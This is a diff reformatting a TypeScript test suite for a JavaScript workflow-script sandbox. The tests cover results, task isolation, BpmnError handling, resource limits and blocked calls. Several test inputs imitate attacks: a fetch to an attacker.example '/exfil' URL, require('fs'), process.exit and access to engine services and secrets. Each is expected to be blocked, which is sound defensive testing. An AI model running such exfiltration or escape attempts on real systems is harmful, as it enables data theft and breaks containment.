@@ -11,17 +11,23 @@ afterAll(() => pool.dispose());
 /** The JSON text of a result the script built as Json. */
 function jsonResult(outcome: Awaited<ReturnType<typeof run>>['outcome']): unknown {
   const result = expectKind(outcome, 'completed').result;
-  if (result?.t !== 'json') throw new Error(`expected a Json result, got ${JSON.stringify(result)}`);
+  if (result?.t !== 'json')
+    throw new Error(`expected a Json result, got ${JSON.stringify(result)}`);
   return JSON.parse(result.v);
 }
 
 function blocked(events: ExecutionEvent[]): { capability: string; name: string }[] {
-  return events.flatMap((e) => (e.kind === 'blocked' ? [{ capability: e.capability, name: e.name }] : []));
+  return events.flatMap((e) =>
+    e.kind === 'blocked' ? [{ capability: e.capability, name: e.name }] : [],
+  );
 }
 
 describe('the completion value is the result', () => {
   it('the value of the last expression statement is the result', async () => {
-    const { outcome } = await run(pool, `const lines = [2, 3];\nlines.reduce((a, b) => a + b, 0) * 10;`);
+    const { outcome } = await run(
+      pool,
+      `const lines = [2, 3];\nlines.reduce((a, b) => a + b, 0) * 10;`,
+    );
     expect(expectKind(outcome, 'completed').result).toEqual({ t: 'integer', v: 50 });
   });
 
@@ -31,7 +37,10 @@ describe('the completion value is the result', () => {
   });
 
   it('a promise result is awaited', async () => {
-    const { outcome } = await run(pool, `(async () => { await null; await Promise.resolve(); return 'done'; })()`);
+    const { outcome } = await run(
+      pool,
+      `(async () => { await null; await Promise.resolve(); return 'done'; })()`,
+    );
     expect(expectKind(outcome, 'completed').result).toEqual({ t: 'string', v: 'done' });
   });
 
@@ -41,7 +50,10 @@ describe('the completion value is the result', () => {
   });
 
   it('variables set after an await are part of the completion', async () => {
-    const { outcome } = await run(pool, `(async () => { await null; execution.setVariable('late', true); })()`);
+    const { outcome } = await run(
+      pool,
+      `(async () => { await null; execution.setVariable('late', true); })()`,
+    );
     expect(expectKind(outcome, 'completed').variables).toEqual({ late: { t: 'boolean', v: true } });
   });
 });
@@ -67,15 +79,26 @@ describe('a fresh context per task', () => {
         `[typeof leak, [].polluted === undefined, ({}).evil === undefined, JSON.parse('1'),
           (() => { try { require('fs'); return 'reachable'; } catch (e) { return e.name; } })()]`,
       );
-      expect(jsonResult(second.outcome)).toEqual(['undefined', true, true, 1, 'SandboxPolicyError']);
+      expect(jsonResult(second.outcome)).toEqual([
+        'undefined',
+        true,
+        true,
+        1,
+        'SandboxPolicyError',
+      ]);
     } finally {
       single.dispose();
     }
   });
 
   it('the variables of one task are not visible to the next', async () => {
-    await run(pool, `execution.setVariable('carried', 1);`, { variables: { input: { t: 'string', v: 'one' } } });
-    const { outcome } = await run(pool, `[execution.hasVariable('carried'), execution.hasVariable('input')]`);
+    await run(pool, `execution.setVariable('carried', 1);`, {
+      variables: { input: { t: 'string', v: 'one' } },
+    });
+    const { outcome } = await run(
+      pool,
+      `[execution.hasVariable('carried'), execution.hasVariable('input')]`,
+    );
     expect(jsonResult(outcome)).toEqual([false, false]);
   });
 });
@@ -192,7 +215,10 @@ describe('the execution object', () => {
 
 describe('BpmnError', () => {
   it('thrown synchronously, it carries code, message and variables', async () => {
-    const { outcome } = await run(pool, `throw new BpmnError('CREDIT_REJECTED', 'limit exceeded', { reason: 'limit', score: 420 });`);
+    const { outcome } = await run(
+      pool,
+      `throw new BpmnError('CREDIT_REJECTED', 'limit exceeded', { reason: 'limit', score: 420 });`,
+    );
     expect(outcome).toEqual({
       kind: 'bpmnError',
       code: 'CREDIT_REJECTED',
@@ -216,12 +242,23 @@ describe('BpmnError', () => {
 
   it('without a message, the message is the code', async () => {
     const { outcome } = await run(pool, `throw new BpmnError('NO_MESSAGE');`);
-    expect(outcome).toMatchObject({ kind: 'bpmnError', code: 'NO_MESSAGE', message: 'NO_MESSAGE', variables: {} });
+    expect(outcome).toMatchObject({
+      kind: 'bpmnError',
+      code: 'NO_MESSAGE',
+      message: 'NO_MESSAGE',
+      variables: {},
+    });
   });
 
   it('variables the script set before throwing go with the error', async () => {
-    const { outcome } = await run(pool, `execution.setVariable('checkedAt', 1); throw new BpmnError('E', 'm', { why: 'x' });`);
-    expect(expectKind(outcome, 'bpmnError').variables).toEqual({ checkedAt: { t: 'integer', v: 1 }, why: { t: 'string', v: 'x' } });
+    const { outcome } = await run(
+      pool,
+      `execution.setVariable('checkedAt', 1); throw new BpmnError('E', 'm', { why: 'x' });`,
+    );
+    expect(expectKind(outcome, 'bpmnError').variables).toEqual({
+      checkedAt: { t: 'integer', v: 1 },
+      why: { t: 'string', v: 'x' },
+    });
   });
 
   it('without a code it is a TypeError, an ordinary failure', async () => {
@@ -232,12 +269,18 @@ describe('BpmnError', () => {
   });
 
   it('an object that only looks like a BpmnError is an ordinary failure', async () => {
-    const { outcome } = await run(pool, `throw { name: 'BpmnError', code: 'FAKE', message: 'm', variables: {} };`);
+    const { outcome } = await run(
+      pool,
+      `throw { name: 'BpmnError', code: 'FAKE', message: 'm', variables: {} };`,
+    );
     expect(expectKind(outcome, 'error').policyViolation).toBe(false);
   });
 
   it('a BpmnError the script catches does not end the task', async () => {
-    const { outcome } = await run(pool, `try { throw new BpmnError('E'); } catch (e) { e instanceof Error && e.code }`);
+    const { outcome } = await run(
+      pool,
+      `try { throw new BpmnError('E'); } catch (e) { e instanceof Error && e.code }`,
+    );
     expect(expectKind(outcome, 'completed').result).toEqual({ t: 'string', v: 'E' });
   });
 });
@@ -277,7 +320,10 @@ describe('errors', () => {
   });
 
   it('an error thrown from an async function keeps the script line', async () => {
-    const { outcome } = await run(pool, `async function load() {\n  await null;\n  throw new TypeError('no lines');\n}\nload();`);
+    const { outcome } = await run(
+      pool,
+      `async function load() {\n  await null;\n  throw new TypeError('no lines');\n}\nload();`,
+    );
     const error = expectKind(outcome, 'error');
     expect(error.name).toBe('TypeError');
     expect(error.message).toBe('no lines');
@@ -295,7 +341,12 @@ describe('errors', () => {
 
   it('a thrown non-error value is reported as text, without a stack', async () => {
     const { outcome } = await run(pool, `throw 'plain text';`);
-    expect(outcome).toEqual({ kind: 'error', name: 'string', message: 'plain text', policyViolation: false });
+    expect(outcome).toEqual({
+      kind: 'error',
+      name: 'string',
+      message: 'plain text',
+      policyViolation: false,
+    });
   });
 
   it('a syntax error is rejected with its line and column in the script', async () => {
@@ -306,7 +357,9 @@ describe('errors', () => {
   });
 
   it('deep recursion ends in a RangeError, not a crash', async () => {
-    const { outcome } = await run(pool, `function down(n) { return down(n + 1) + 1; }\ndown(0);`, { limits: TIGHT });
+    const { outcome } = await run(pool, `function down(n) { return down(n + 1) + 1; }\ndown(0);`, {
+      limits: TIGHT,
+    });
     const error = expectKind(outcome, 'error');
     expect(error.name).toBe('RangeError');
     expect(error.message).toBe('Maximum call stack size exceeded');
@@ -329,7 +382,9 @@ describe('limits', () => {
   });
 
   it('an infinite loop after an await ends with a CPU timeout', async () => {
-    const { outcome } = await run(pool, `(async () => { await null; for (;;) {} })()`, { limits: TIGHT });
+    const { outcome } = await run(pool, `(async () => { await null; for (;;) {} })()`, {
+      limits: TIGHT,
+    });
     expect(outcome).toEqual({ kind: 'timeout', limit: 'cpu', limitMs: 200 });
   });
 
@@ -341,16 +396,24 @@ describe('limits', () => {
   });
 
   it('a microtask flood ends with a timeout', async () => {
-    const { outcome } = await run(pool, `function again() { Promise.resolve().then(again); }\nagain();\n'started'`, {
-      limits: TIGHT,
-    });
+    const { outcome } = await run(
+      pool,
+      `function again() { Promise.resolve().then(again); }\nagain();\n'started'`,
+      {
+        limits: TIGHT,
+      },
+    );
     expect(outcome.kind).toBe('timeout');
   });
 
   it('a memory bomb ends with the memory limit', async () => {
-    const { outcome } = await run(pool, `const hoard = []; for (;;) hoard.push(new Array(1e6).fill(1.5));`, {
-      limits: { memoryMb: 16, wallMs: 10_000, cpuMs: 5_000 },
-    });
+    const { outcome } = await run(
+      pool,
+      `const hoard = []; for (;;) hoard.push(new Array(1e6).fill(1.5));`,
+      {
+        limits: { memoryMb: 16, wallMs: 10_000, cpuMs: 5_000 },
+      },
+    );
     expect(outcome).toEqual({ kind: 'memoryLimit', limitMb: 16 });
   });
 
@@ -363,16 +426,23 @@ describe('limits', () => {
   });
 
   it('variables over the output limit fail as outputTooLarge', async () => {
-    const { outcome } = await run(pool, `for (let i = 0; i < 10; i++) execution.setVariable('v' + i, 'y'.repeat(500));`, {
-      limits: { outputBytes: 4096 },
-    });
+    const { outcome } = await run(
+      pool,
+      `for (let i = 0; i < 10; i++) execution.setVariable('v' + i, 'y'.repeat(500));`,
+      {
+        limits: { outputBytes: 4096 },
+      },
+    );
     expect(expectKind(outcome, 'error').outputTooLarge).toBe(true);
   });
 
   it('a breach in one task leaves a task running beside it untouched', async () => {
     const [looping, normal] = await Promise.all([
       run(pool, `while (true) {}`, { limits: TIGHT }),
-      run(pool, `(async () => { let n = 0; for (let i = 0; i < 1000; i++) { await null; n += i; } return n; })()`),
+      run(
+        pool,
+        `(async () => { let n = 0; for (let i = 0; i < 1000; i++) { await null; n += i; } return n; })()`,
+      ),
     ]);
     expect(looping.outcome.kind).toBe('timeout');
     expect(expectKind(normal.outcome, 'completed').result).toEqual({ t: 'integer', v: 499500 });
@@ -407,7 +477,13 @@ describe('absent globals', () => {
       `[typeof WebAssembly, typeof SharedArrayBuffer, typeof Atomics, 'WebAssembly' in globalThis,
         (() => { try { new WebAssembly.Memory({ initial: 1 }); return 'created'; } catch (e) { return e.name; } })()]`,
     );
-    expect(jsonResult(outcome)).toEqual(['undefined', 'undefined', 'undefined', false, 'ReferenceError']);
+    expect(jsonResult(outcome)).toEqual([
+      'undefined',
+      'undefined',
+      'undefined',
+      false,
+      'ReferenceError',
+    ]);
     expect(events).toEqual([]);
   });
 });
@@ -427,28 +503,36 @@ describe('blocked calls', () => {
     ['setImmediate', `setImmediate(() => {})`],
   ];
 
-  it.each(escapes)('%s, uncaught, fails the task as a policy violation and emits a blocked event', async (name, use) => {
-    const { outcome, events } = await run(pool, use);
-    const error = expectKind(outcome, 'error');
-    expect(error.name).toBe('SandboxPolicyError');
-    expect(error.message).toContain(`${name} is not available in the sandbox`);
-    expect(error.policyViolation).toBe(true);
-    expect(blocked(events)).toEqual([{ capability: name, name }]);
-  });
+  it.each(escapes)(
+    '%s, uncaught, fails the task as a policy violation and emits a blocked event',
+    async (name, use) => {
+      const { outcome, events } = await run(pool, use);
+      const error = expectKind(outcome, 'error');
+      expect(error.name).toBe('SandboxPolicyError');
+      expect(error.message).toContain(`${name} is not available in the sandbox`);
+      expect(error.policyViolation).toBe(true);
+      expect(blocked(events)).toEqual([{ capability: name, name }]);
+    },
+  );
 
-  it.each(escapes)('%s, caught, throws a SandboxPolicyError and still emits a blocked event', async (name, use) => {
-    const { outcome, events } = await run(
-      pool,
-      `let seen; try { ${use}; seen = 'reached'; } catch (e) { seen = [e.name, e instanceof SandboxPolicyError]; } seen`,
-    );
-    expect(jsonResult(outcome)).toEqual(['SandboxPolicyError', true]);
-    expect(blocked(events)).toEqual([{ capability: name, name }]);
-  });
+  it.each(escapes)(
+    '%s, caught, throws a SandboxPolicyError and still emits a blocked event',
+    async (name, use) => {
+      const { outcome, events } = await run(
+        pool,
+        `let seen; try { ${use}; seen = 'reached'; } catch (e) { seen = [e.name, e instanceof SandboxPolicyError]; } seen`,
+      );
+      expect(jsonResult(outcome)).toEqual(['SandboxPolicyError', true]);
+      expect(blocked(events)).toEqual([{ capability: name, name }]);
+    },
+  );
 
   it('a capability the policy does not grant is blocked with a message naming the policy', async () => {
     const { outcome, events } = await run(pool, `fetch('https://attacker.example/exfil')`);
     const error = expectKind(outcome, 'error');
-    expect(error.message).toBe("fetch is not available in the sandbox: policy 'unit' does not grant capability 'fetch'");
+    expect(error.message).toBe(
+      "fetch is not available in the sandbox: policy 'unit' does not grant capability 'fetch'",
+    );
     expect(error.policyViolation).toBe(true);
     expect(blocked(events)).toEqual([{ capability: 'fetch', name: 'fetch' }]);
   });
@@ -465,17 +549,25 @@ describe('blocked calls', () => {
   });
 
   it('every use of a blocked name counts, each one an event', async () => {
-    const { events } = await run(pool, `for (const f of [() => process.pid, () => require('fs'), () => process.exit()]) { try { f(); } catch {} }`);
+    const { events } = await run(
+      pool,
+      `for (const f of [() => process.pid, () => require('fs'), () => process.exit()]) { try { f(); } catch {} }`,
+    );
     expect(blocked(events).map((e) => e.name)).toEqual(['process', 'require', 'process']);
   });
 
-  it.each(['getProcessEngineServices', 'getProcessEngine'])('execution.%s, the way into the engine, is a blocked call', async (method) => {
-    const { outcome, events } = await run(pool, `execution.${method}().getRuntimeService()`);
-    const error = expectKind(outcome, 'error');
-    expect(error.name).toBe('SandboxPolicyError');
-    expect(error.policyViolation).toBe(true);
-    expect(blocked(events)).toEqual([{ capability: 'engineServices', name: `execution.${method}` }]);
-  });
+  it.each(['getProcessEngineServices', 'getProcessEngine'])(
+    'execution.%s, the way into the engine, is a blocked call',
+    async (method) => {
+      const { outcome, events } = await run(pool, `execution.${method}().getRuntimeService()`);
+      const error = expectKind(outcome, 'error');
+      expect(error.name).toBe('SandboxPolicyError');
+      expect(error.policyViolation).toBe(true);
+      expect(blocked(events)).toEqual([
+        { capability: 'engineServices', name: `execution.${method}` },
+      ]);
+    },
+  );
 
   it('a blocked call caught and followed by a normal end still completes the task', async () => {
     const { outcome, events } = await run(pool, `try { process.exit(1); } catch {} 'carried on'`);
@@ -486,9 +578,13 @@ describe('blocked calls', () => {
 
 describe('granted capabilities', () => {
   it('console writes to the worker log as console events, not as blocked calls', async () => {
-    const { outcome, events } = await run(pool, `console.log('total', { n: 1n }); console.warn('careful'); 1`, {
-      capabilities: { console: { maxLines: 10, maxBytes: 1024 } },
-    });
+    const { outcome, events } = await run(
+      pool,
+      `console.log('total', { n: 1n }); console.warn('careful'); 1`,
+      {
+        capabilities: { console: { maxLines: 10, maxBytes: 1024 } },
+      },
+    );
     expectKind(outcome, 'completed');
     expect(events).toEqual([
       { kind: 'console', level: 'info', text: 'total {"n":"1"}' },
@@ -499,9 +595,13 @@ describe('granted capabilities', () => {
   it('a secret handed to the script is redacted from the error sent to the engine', async () => {
     process.env['SANDBOX_SECRET_UNIT_API_KEY'] = 'hunter2-unit-value';
     try {
-      const { outcome } = await run(pool, `throw new Error('login failed with ' + secrets.get('UNIT_API_KEY'));`, {
-        capabilities: { secrets: { allow: ['UNIT_API_KEY'] } },
-      });
+      const { outcome } = await run(
+        pool,
+        `throw new Error('login failed with ' + secrets.get('UNIT_API_KEY'));`,
+        {
+          capabilities: { secrets: { allow: ['UNIT_API_KEY'] } },
+        },
+      );
       const error = expectKind(outcome, 'error');
       expect(error.message).toBe('login failed with [secret:UNIT_API_KEY]');
       expect(error.stack).not.toContain('hunter2-unit-value');
@@ -511,7 +611,9 @@ describe('granted capabilities', () => {
   });
 
   it('a secret outside the allow list is a blocked call', async () => {
-    const { outcome, events } = await run(pool, `secrets.get('OTHER')`, { capabilities: { secrets: { allow: ['UNIT_API_KEY'] } } });
+    const { outcome, events } = await run(pool, `secrets.get('OTHER')`, {
+      capabilities: { secrets: { allow: ['UNIT_API_KEY'] } },
+    });
     expect(expectKind(outcome, 'error').policyViolation).toBe(true);
     expect(blocked(events)).toEqual([{ capability: 'secrets', name: 'secrets.get' }]);
   });
